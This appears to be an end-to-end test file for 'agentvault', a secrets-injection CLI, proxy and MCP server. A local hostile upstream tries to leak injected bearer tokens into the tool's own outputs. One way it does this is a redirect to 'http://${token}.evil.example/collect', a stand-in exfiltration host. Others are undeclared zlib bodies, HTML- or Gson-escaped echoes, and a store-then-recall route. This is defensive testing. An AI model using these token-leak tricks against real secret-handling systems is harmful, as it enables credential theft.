/**
 * An attacker's probe: an upstream the secret is allowed to reach tries to move the value it was
 * sent into something agentvault itself writes — an error message, `--json` error details, the
 * proxy's error body, an MCP tool error — rather than into the response, which redaction covers.
 * Each route below echoes the bearer token where agentvault quotes the server.
 */
import type {CallToolResult} from '@modelcontextprotocol/sdk/types.js'

import assert from 'node:assert/strict'
import {createServer, type Server} from 'node:http'
import {deflateSync, gzipSync, inflateSync} from 'node:zlib'

import {startMcp} from '../helpers/mcp.js'
import {proxyCall, startProxy} from '../helpers/proxy.js'
import {createUseWorld, MASK, type UseWorld} from '../servers/http-upstream/fixture.js'

/** Lower case already, as a host name or a URL scheme shows it: a hex token, an `sk-…` key. */
const LOWER = 'hostcanary-leak9-5d1e0b7a'
/** An AWS-style secret key: `/` and `=` are what mustache.js and Handlebars escape in it. */
const SLASHED = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYleak9KEY='
/** Mixed case: URL parsing lower-cases a host or scheme, and must not thereby uncover it. */
const MIXED = 'HostCanary-Leak9-C0FFEE42'
const PROXY_MARKER = '[REDACTED_BY_AGENTSECRETS]'

/** Text that starts as a zlib stream would ("x^", 0x78 0x5e passes its header check) and is not one. */
const LOOKS_ZLIB = 'x^2 + y^2 = z^2 has no integer solutions with x, y, z > 0? It has: 3, 4, 5.'

/**
 * Redirects that quote the token where agentvault's errors name what the server sent, and bodies
 * that hold it compressed without saying so.
 */
function hostileUpstream(): Promise<{port: number; server: Server}> {
  const remembered: string[] = []
  const server = createServer((request, response) => {
    request.resume()
    const token = String(request.headers.authorization ?? '').replace(/^Bearer /, '')
    const path = (request.url ?? '').split('?')[0]
    const echo = Buffer.from(JSON.stringify({token}))
    switch (path) {
      case '/to-host':
      case '/to-scheme': {
        const location = path === '/to-host' ? `http://${token}.evil.example/collect` : `${token}:collect`
        response.writeHead(302, {location})
        response.end()
        break
      }

      case '/zlib': {
        // zlib (RFC 1950, what `deflate` names) that no Content-Encoding declares.
        response.end(deflateSync(echo))
        break
      }

      case '/gzip-zlib': {
        // Declared gzip, holding a zlib stream that nothing declares.
        response.writeHead(200, {'content-encoding': 'gzip'})
        response.end(gzipSync(deflateSync(echo)))
        break
      }

      case '/template-error': {
        // An error page quoting the token as mustache.js and Handlebars escape it (`/`, `=` too).
        const escape = (table: Record<string, string>) =>
          token.replaceAll(/[&<>"'/`=]/g, (c) => table[c] ?? c)
        const always = {'&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', '`': '&#x60;', '=': '&#x3D;'}
        response.writeHead(401, {'content-type': 'text/html'})
        response.end(
          `<p>Invalid key ${escape({...always, "'": '&#39;', '/': '&#x2F;'})}</p>` +
            `<p>Key: ${escape({...always, "'": '&#x27;'})}</p>`,
        )
        break
      }

      case '/gson': {
        // JSON as Java's Gson writes it by default (HTML-safe: < > & = ' as \u00XX).
        const escaped = JSON.stringify(token).replaceAll(
          /[<>&=']/g,
          (c) => `\\u${c.codePointAt(0)!.toString(16).padStart(4, '0')}`,
        )
        response.writeHead(200, {'content-type': 'application/json'})
        response.end(`{"error":"invalid key","key":${escaped}}`)
        break
      }

      case '/remember': {
        // Keeps what it was sent, as a paste service, a gist or an LLM's conversation does.
        remembered.push(token)
        response.end('{"stored":true}')
        break
      }

      case '/recall': {
        response.writeHead(200, {'content-type': 'application/json', 'x-recalled': remembered.join(' ')})
        response.end(JSON.stringify({remembered}))
        break
      }

      case '/looks-zlib': {
        response.end(LOOKS_ZLIB)
        break
      }

      case '/looks-zlib-echo': {
        response.end(`${LOOKS_ZLIB} ${token}`)
        break
      }

      default: {
        response.writeHead(404)
        response.end()
      }
    }
  })
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () => {
      const address = server.address()
      resolve({port: typeof address === 'object' && address ? address.port : 0, server})
    })
  })
}

/** A `sh -c` script: curl sends $K as a bearer to `target`, then prints the status on a line of its own. */
function fetchWithStatus(target: string): string {
  return `curl -sS -w '\\n%{http_code}\\n' -H "Authorization: Bearer $K" "${target}"`
}

/** Whether `text` holds `value` in any case (as a host name shows it) or URL-encoded. */
function leaks(text: string, value: string): boolean {
  const lower = text.toLowerCase()
  return lower.includes(value.toLowerCase()) || lower.includes(encodeURIComponent(value).toLowerCase())
}

/** The forms of `value` found in `text` (any case). */
function echoed(text: string, value: string): string[] {
  return [value, Buffer.from(value).toString('base64'), encodeURIComponent(value)].filter((form) =>
    text.toLowerCase().includes(form.toLowerCase()),
  )
}

describe('e2e: leak probe — values an upstream moves into agentvault’s own messages', function () {
  this.timeout(120_000)
  let world: UseWorld
  let upstream: {port: number; server: Server}
  const url = (path: string): string => `http://127.0.0.1:${upstream.port}${path}`
  const env = (): NodeJS.ProcessEnv => ({
    AGENTVAULT_HOME: world.home,
    AGENTVAULT_NO_KEYCHAIN: '1',
    NO_COLOR: '1',
  })

  /** `run --placeholders` with LOWER as K, curl fetching `route` with it as a bearer. */
  const placeholdersFetch = (route: string) =>
    world.cli(
      [
        'run',
        '--placeholders',
        '--env',
        'K=local://LOWER?profile=tls',
        '--',
        'sh',
        '-c',
        fetchWithStatus(url(route)),
      ],
      {env: env()},
    )

  before(async () => {
    world = await createUseWorld()
    upstream = await hostileUpstream()
    for (const [name, value] of [
      ['LOWER', LOWER],
      ['MIXED', MIXED],
      ['SLASHED', SLASHED],
    ]) {
      const stored = await world.cli(['secrets', 'set', name!], {input: value})
      assert.equal(stored.code, 0, stored.stderr)
    }
  })

  after(async () => {
    await new Promise((resolve) => {
      upstream.server.close(resolve)
    })
    await world.dispose()
  })

  describe('a redirect whose Location carries the value as a host or a scheme', () => {
    for (const route of ['/to-host', '/to-scheme'])
      for (const [name, value] of [
        ['LOWER', LOWER],
        ['MIXED', MIXED],
      ] as const)
        it(`call and use: ${route} with ${name} — the refusal (Error, Try this, --json) conceals it`, async () => {
          const runs = [
            await world.cli(['call', url(route), '--bearer', name]),
            await world.cli(['call', url(route), '--bearer', name, '--json']),
            await world.cli(['use', name, 'http_request', '--param', `url=${url(route)}`]),
            await world.cli(['use', name, 'http_request', '--param', `url=${url(route)}`, '--json']),
          ]
          for (const result of runs) {
            assert.equal(result.code, 7, result.stderr + result.stdout)
            const output = result.stdout + result.stderr
            assert.ok(output.includes(MASK), output)
            assert.ok(!leaks(output, value), `the value in: ${output}`)
          }

          const json = JSON.parse(runs[1]!.stdout) as {error: {details?: {host?: string}; message: string}}
          if (route === '/to-host') assert.equal(json.error.details?.host, `${MASK}.evil.example`)
        })
  })

  it('proxy and mcp: a value sent in one request and handed back in a later one that injects another secret stays concealed', async () => {
    // The agent stores LOWER at an allowed host, then fetches it back with MIXED, which it may also
    // use there: that response's own value is MIXED, yet LOWER must not come out either.
    const proxy = await startProxy(env())
    try {
      const call = (name: string, route: string) =>
        proxyCall(proxy.port, {
          headers: {
            'X-AS-Inject-Bearer': name,
            'X-AS-Session-Token': proxy.token ?? '',
            'X-AS-Target-URL': url(route),
          },
        })
      assert.equal((await call('LOWER', '/remember')).status, 200)
      const recalled = await call('MIXED', '/recall')
      assert.equal(recalled.status, 200, recalled.text)
      const seen = recalled.text + JSON.stringify(recalled.headers)
      assert.ok(!leaks(seen, LOWER), `LOWER handed back: ${seen}`)
      assert.ok(seen.includes(PROXY_MARKER), seen)
    } finally {
      await proxy.stop()
    }

    const session = await startMcp(['--allow', 'local://*', '--allow-host', '127.0.0.1'], env())
    try {
      const send = async (name: string, route: string) =>
        JSON.stringify(
          await session.client.callTool({arguments: {bearer: name, url: url(route)}, name: 'http_request'}),
        )
      await send('SLASHED', '/remember')
      const recalled = await send('LOWER', '/recall')
      assert.deepEqual(echoed(recalled, SLASHED), [], recalled)
      assert.ok(recalled.includes(MASK), recalled)
    } finally {
      await session.close()
    }
  })

  it('proxy: the 403 body, its domain and the log line conceal a value the redirect carried', async () => {
    const proxy = await startProxy(env())
    try {
      for (const [route, name, value] of [
        ['/to-host', 'LOWER', LOWER],
        ['/to-host', 'MIXED', MIXED],
        ['/to-scheme', 'MIXED', MIXED],
      ] as const) {
        const reply = await proxyCall(proxy.port, {
          headers: {
            'X-AS-Inject-Bearer': name,
            'X-AS-Session-Token': proxy.token ?? '',
            'X-AS-Target-URL': url(route),
          },
        })
        assert.equal(reply.status, 403, reply.text)
        assert.ok(reply.text.includes(PROXY_MARKER), reply.text)
        assert.ok(!leaks(reply.text, value), reply.text)
        if (route === '/to-host')
          assert.equal((JSON.parse(reply.text) as {domain: string}).domain, `${PROXY_MARKER}.evil.example`)
      }

      await proxy.untilRequestLines(3)
    } finally {
      const stopped = await proxy.stop()
      assert.ok(!leaks(stopped.stderr + stopped.stdout, LOWER), stopped.stderr)
      assert.ok(!leaks(stopped.stderr + stopped.stdout, MIXED), stopped.stderr)
    }
  })

  it('mcp: the http_request tool error conceals it (content and structuredContent)', async () => {
    const session = await startMcp(['--allow', 'local://*', '--allow-host', '127.0.0.1'], env())
    let received = ''
    try {
      for (const [route, name] of [
        ['/to-host', 'MIXED'],
        ['/to-scheme', 'LOWER'],
      ] as const) {
        const result = (await session.client.callTool({
          arguments: {bearer: name, url: url(route)},
          name: 'http_request',
        })) as CallToolResult
        assert.equal(result.isError, true, JSON.stringify(result))
        assert.ok(JSON.stringify(result).includes(MASK), JSON.stringify(result))
      }
    } finally {
      const transcript = await session.close()
      received = transcript.received + transcript.stderr
    }

    for (const value of [LOWER, MIXED]) assert.ok(!leaks(received, value), received)
  })

  describe('a secret rotated while proxy and mcp run: the very next response conceals the new value', () => {
    // Same length, one byte apart, then back: a masker kept for the old set must never serve the new.
    const VALUES = ['rotating-leak9-aaaa-0001', 'rotating-leak9-aaaa-0002', 'rotating-leak9-aaaa-0001']

    it('proxy: body, header values and header names of each next response', async () => {
      const proxy = await startProxy(env())
      try {
        for (const [round, value] of VALUES.entries()) {
          const stored = await world.cli(['secrets', 'set', 'ROT'], {input: value})
          assert.equal(stored.code, 0, stored.stderr)
          for (const path of [`/echo?r=${round}`, `/header-name?r=${round}`]) {
            const reply = await proxyCall(proxy.port, {
              headers: {
                'X-AS-Inject-Bearer': 'ROT',
                'X-AS-Session-Token': proxy.token ?? '',
                'X-AS-Target-URL': world.upstream.url(path),
              },
            })
            assert.equal(reply.status, 200, reply.text)
            assert.equal(world.upstream.last(path).headers.authorization, `Bearer ${value}`)
            const seen = reply.text + JSON.stringify(reply.headers) + Object.keys(reply.headers).join(',')
            assert.ok(seen.toLowerCase().includes('redacted_by_agentsecrets'), seen)
            assert.deepEqual(echoed(seen, value), [], `round ${round} ${path}: ${seen}`)
          }
        }
      } finally {
        await proxy.stop()
      }
    })

    it('mcp: the http_request result of each next call', async () => {
      const session = await startMcp(['--allow', 'local://ROT', '--allow-host', '127.0.0.1'], env())
      try {
        for (const [round, value] of VALUES.entries()) {
          const stored = await world.cli(['secrets', 'set', 'ROT'], {input: value})
          assert.equal(stored.code, 0, stored.stderr)
          const result = (await session.client.callTool({
            arguments: {bearer: 'ROT', url: world.upstream.url(`/echo?m=${round}`)},
            name: 'http_request',
          })) as CallToolResult
          assert.notEqual(result.isError, true, JSON.stringify(result))
          assert.equal(world.upstream.last(`/echo?m=${round}`).headers.authorization, `Bearer ${value}`)
          const seen = JSON.stringify(result)
          assert.ok(seen.includes(MASK), seen)
          assert.deepEqual(echoed(seen, value), [], `round ${round}: ${seen}`)
        }
      } finally {
        await session.close()
      }
    })
  })

  describe('a body compressed with zlib that no Content-Encoding declares (as undeclared gzip is)', () => {
    it('call and use refuse it when it holds the value (exit 7); a text that only starts like zlib passes', async () => {
      for (const route of ['/zlib', '/gzip-zlib']) {
        const runs = [
          await world.cli(['call', url(route), '--bearer', 'LOWER']),
          await world.cli(['call', url(route), '--bearer', 'LOWER', '--json']),
          await world.cli(['use', 'LOWER', 'http_request', '--param', `url=${url(route)}`, '--json']),
        ]
        for (const result of runs) {
          assert.equal(result.code, 7, `${route}: ${result.stdout}${result.stderr}`)
          assert.equal(
            result.stdout.includes('SECRET_IN_COMPRESSED_BODY') || result.stderr.includes('Error: '),
            true,
          )
        }

        assert.equal(runs[0]!.stdout, '')
        const {error} = JSON.parse(runs[1]!.stdout) as {error: {code: string}}
        assert.equal(error.code, 'SECRET_IN_COMPRESSED_BODY')
      }

      const harmless = await world.cli(['call', url('/looks-zlib'), '--bearer', 'LOWER'])
      assert.equal(harmless.code, 0, harmless.stderr)
      assert.equal(harmless.stdout, LOOKS_ZLIB)
      const echo = await world.cli(['call', url('/looks-zlib-echo'), '--bearer', 'LOWER'])
      assert.equal(echo.code, 0, echo.stderr)
      assert.equal(echo.stdout, `${LOOKS_ZLIB} ${MASK}`)
    })

    it('proxy refuses it (403 policy_denied) rather than relay it', async () => {
      const proxy = await startProxy(env())
      try {
        for (const route of ['/zlib', '/gzip-zlib']) {
          const reply = await proxyCall(proxy.port, {
            headers: {
              'X-AS-Inject-Bearer': 'LOWER',
              'X-AS-Session-Token': proxy.token ?? '',
              'X-AS-Target-URL': url(route),
            },
          })
          assert.equal(reply.status, 403, `${route}: ${reply.text}`)
          assert.throws(() => inflateSync(reply.body), 'no zlib stream relayed')
        }
      } finally {
        await proxy.stop()
      }
    })

    it('run --placeholders refuses it (502); a text that only starts like zlib is relayed', async () => {
      for (const route of ['/zlib', '/gzip-zlib']) {
        const result = await placeholdersFetch(route)
        assert.equal(result.code, 0, result.stderr)
        const lines = result.stdout.trim().split('\n')
        assert.equal(lines.at(-1), '502', `${route}: ${result.stdout}`)
        assert.ok(!leaks(result.stdout, LOWER), result.stdout)
      }

      const harmless = await placeholdersFetch('/looks-zlib')
      assert.equal(harmless.stdout, `${LOOKS_ZLIB}\n200\n`, harmless.stderr)
      // Not compressed after all: its echo is rewritten as in any body, not refused.
      const echo = await placeholdersFetch('/looks-zlib-echo')
      assert.match(
        echo.stdout,
        new RegExp(`^${LOOKS_ZLIB.replaceAll(/[$()*+.?^]/g, '\\$&')} avph_K_[\\da-f]{32}\n200\n$`),
      )
    })
  })

  it('call: an error page that quotes the value as mustache.js and Handlebars escape it (&#x2F; &#x3D;)', async () => {
    const result = await world.cli(['call', url('/template-error'), '--bearer', 'SLASHED', '--no-fail'])
    assert.equal(result.code, 0, result.stderr)
    assert.equal(result.stdout, `<p>Invalid key ${MASK}</p><p>Key: ${MASK}</p>`)
  })

  it('call: JSON as Java’s Gson writes it by default (= as \\u003d): a base64 key with its padding', async () => {
    const result = await world.cli(['call', url('/gson'), '--bearer', 'SLASHED'])
    assert.equal(result.code, 0, result.stderr)
    assert.equal(result.stdout, `{"error":"invalid key","key":"${MASK}"}`)
  })
})
